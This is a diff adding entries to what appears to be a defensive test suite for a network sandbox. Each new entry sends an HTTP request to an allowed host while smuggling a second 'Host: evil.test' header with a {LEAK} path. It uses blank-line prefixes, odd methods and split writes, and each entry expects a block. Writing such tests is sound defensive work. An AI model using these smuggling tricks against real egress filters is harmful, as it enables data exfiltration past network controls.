@@ -249,6 +249,32 @@ export const http: readonly Attack[] = numbered('H', 'http', [
     stopped: 'network.mismatch',
   },
   {
+    what: 'another Host behind an empty line',
+    step: { kind: 'write', to: 'allowed.test:8080', pieces: [`\r\n${request('GET /{LEAK} HTTP/1.1', 'Host: evil.test')}`] },
+    stopped: 'network.mismatch',
+  },
+  {
+    what: 'another Host behind empty lines, on port 80',
+    step: toWeb(`\r\n\r\n${request('GET /{LEAK} HTTP/1.1', 'Host: evil.test')}`),
+    stopped: 'network.mismatch',
+  },
+  {
+    what: 'another Host, the method in lower case, in pieces',
+    step: {
+      kind: 'write',
+      to: 'allowed.test:9000',
+      silent: 500,
+      pause: 400,
+      pieces: ['get ', '/{LEAK} HT', 'TP/1.1\r\nHost: evil.test\r\n\r\n'],
+    },
+    stopped: 'network.mismatch',
+  },
+  {
+    what: 'another Host, the method of one letter',
+    step: { kind: 'write', to: 'allowed.test:8080', pieces: [request('X /{LEAK} HTTP/1.1', 'Host: evil.test')] },
+    stopped: 'network.mismatch',
+  },
+  {
     what: 'a proxy header that names another host',
     step: toWeb(request('GET /ok HTTP/1.1', HOST, 'X-Forwarded-Host: evil.test', 'Forwarded: host=evil.test')),
     stopped: 'hello /ok',
